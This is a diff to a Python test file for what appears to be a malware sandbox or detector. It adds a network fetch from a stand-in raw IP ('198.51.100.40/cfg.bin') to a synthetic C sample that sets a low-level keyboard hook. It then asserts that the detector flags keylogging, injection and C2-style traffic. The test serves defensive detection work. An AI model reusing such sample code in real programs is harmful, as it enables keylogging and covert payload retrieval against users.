@@ -363,6 +363,7 @@ def test_stealer_reads_decoy_stores_and_exfiltrates_over_smtp_and_telegram(tmp_p
 
 INJECT = r"""
 #include <windows.h>
+#include <wininet.h>
 typedef LONG (NTAPI *unmap_t)(HANDLE, PVOID);
 static LRESULT CALLBACK kb(int c, WPARAM w, LPARAM l) { return CallNextHookEx(NULL, c, w, l); }
 int main(void) {
@@ -381,6 +382,10 @@ int main(void) {
     }
     HHOOK h = SetWindowsHookExA(WH_KEYBOARD_LL, kb, GetModuleHandleA(NULL), 0);
     if (h) UnhookWindowsHookEx(h);
+    HINTERNET i = InternetOpenA("Mozilla/5.0", INTERNET_OPEN_TYPE_DIRECT, NULL, NULL, 0);
+    HINTERNET u = InternetOpenUrlA(i, "http://198.51.100.40/cfg.bin", NULL, 0, INTERNET_FLAG_RELOAD, 0);
+    if (u) InternetCloseHandle(u);
+    InternetCloseHandle(i);
     return 0;
 }
 """
@@ -390,10 +395,11 @@ int main(void) {
 @pytest.mark.slow
 @pytest.mark.skipif(WINE64 is not None, reason=f"Wine test unavailable: {WINE64}")
 def test_hollowing_injection_keyboard_hook_and_debugger_check(tmp_path, wine_template):
-    r = run_sample(tmp_path, compile_pe(tmp_path, INJECT, "inj"), "Photo_2024.scr", timeout_s=60,
+    r = run_sample(tmp_path, compile_pe(tmp_path, INJECT, "inj", libs=("wininet",)), "Photo_2024.scr", timeout_s=60,
                    stop_on_malicious=False)
     assert r["verdict"] == "malicious", r["findings"]
-    assert {"process_hollowing", "process_injection", "keyboard_hook", "anti_debug"} <= ids(r)
+    assert {"process_hollowing", "process_injection", "keyboard_hook", "anti_debug", "network_raw_ip",
+            "combo_injection_c2", "combo_keylogger_exfil"} <= ids(r)
     assert "notepad.exe suspended" in detail(r, "process_hollowing")
     assert "WH_KEYBOARD_LL" in detail(r, "keyboard_hook")
 
